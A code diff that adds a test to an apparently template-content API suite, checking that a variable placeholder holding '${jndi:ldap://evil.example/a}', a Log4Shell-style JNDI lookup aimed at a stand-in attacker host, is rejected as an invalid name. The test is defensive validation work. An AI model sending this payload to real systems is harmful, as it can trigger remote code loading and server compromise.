@@ -270,3 +270,9 @@ def test_delete_a_variant_across_contents(api: Api) -> None:
     api.ok("DELETE", path, 204, params={"filter": 'variant eq "spring"'})
     remaining = api.ok("GET", path, params={"filter": "default eq false"})["_embedded"]["contents"]
     assert [c["id"] for c in remaining] == [keep["id"]]
+
+
+def test_variable_names_must_be_names_even_where_dynamic_variables_are_allowed(api: Api) -> None:
+    body = api.error("POST", "/templates/general/contents", json=sms("Hi ${jndi:ldap://evil.example/a}"))
+    assert detail_codes(body) == [("INVALID_VALUE", "content")]
+    assert "not a valid variable name" in body["details"][0]["message"]
